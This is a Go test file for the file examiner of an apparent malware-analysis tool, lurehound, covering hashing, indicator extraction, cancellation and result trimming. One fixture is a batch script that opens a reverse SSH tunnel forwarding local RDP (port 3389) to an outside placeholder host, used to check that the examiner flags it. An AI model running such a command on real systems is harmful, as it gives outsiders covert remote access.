package examine

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"lurehound"
	"lurehound/internal/sandbox"
)

func onDisk(t testing.TB, content string) *os.File {
	t.Helper()
	path := filepath.Join(t.TempDir(), "a.bat")
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestFile(t *testing.T) {
	const script = "@echo off\r\nssh -N -R 7655:localhost:3389 user@192.0.2.7\r\n"
	p, err := Examiner{}.File(t.Context(), onDisk(t, script), int64(len(script)), "a.bat")
	if err != nil || p.Type != lurehound.TypeScript || !slices.Contains(p.Found.IPs, "192.0.2.7") || len(p.Signals) == 0 {
		t.Errorf("%+v, %v", p, err)
	}
}

// What ended the child is said, and the hashes are there all the same: the child refuses these arguments
// because they are longer than it takes.
func TestFileThatIsNotTakenApart(t *testing.T) {
	p, err := Examiner{Roots: [][]byte{make([]byte, 2<<20)}}.File(t.Context(), onDisk(t, "MZ"), 2, "a.exe")
	var f *sandbox.Failure
	if err == nil || errors.As(err, &f) && f.Reason == sandbox.Failed {
		t.Fatalf("%v", err)
	}
	if p.MD5 != "ac6ad5d9b99757c3a878f2d275ace198" || p.Size != 2 || p.SHA256 == "" || p.Signature.Digest != lurehound.DigestUnverified || !strings.Contains(strings.Join(p.Problems, ""), "not taken apart") {
		t.Errorf("%+v", p)
	}
	// A file that became shorter has no hash.
	p, err = Examiner{Roots: [][]byte{make([]byte, 2<<20)}}.File(t.Context(), onDisk(t, "MZ"), 9, "a.exe")
	if err == nil || p.SHA256 != "" || len(p.Problems) != 2 {
		t.Errorf("%+v, %v", p, err)
	}
}

// Who does not wait for the answer gets none.
func TestFileCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if p, err := (Examiner{}).File(ctx, onDisk(t, "MZ"), 2, "a.exe"); err == nil || p.SHA256 != "" {
		t.Errorf("%+v, %v", p, err)
	}
}

// An answer that is too long loses what is least needed, and says so.
func TestFit(t *testing.T) {
	for _, limit := range []int{200_000, 40_000, 5_000} {
		var p lurehound.PayloadFacts
		for range 3000 {
			p.Contains = append(p.Contains, lurehound.ContainedFile{Name: strings.Repeat("x", 90)})
			p.Found.IPs = append(p.Found.IPs, "192.0.2.1")
			p.Found.Where = append(p.Found.Where, lurehound.Place{Kind: "ip", Value: "192.0.2.1"})
		}
		fit(&p, limit)
		if b, err := json.Marshal(p); err != nil || len(b) > limit+1000 || len(p.Problems) == 0 {
			t.Errorf("limit %d: %d bytes, %q, %v", limit, len(b), p.Problems, err)
		}
	}
	p := lurehound.PayloadFacts{Found: lurehound.Indicators{IPs: []string{"192.0.2.1"}}}
	if fit(&p, 1<<20); len(p.Problems) > 0 || len(p.Found.IPs) != 1 {
		t.Errorf("a short answer was cut: %+v", p)
	}
}
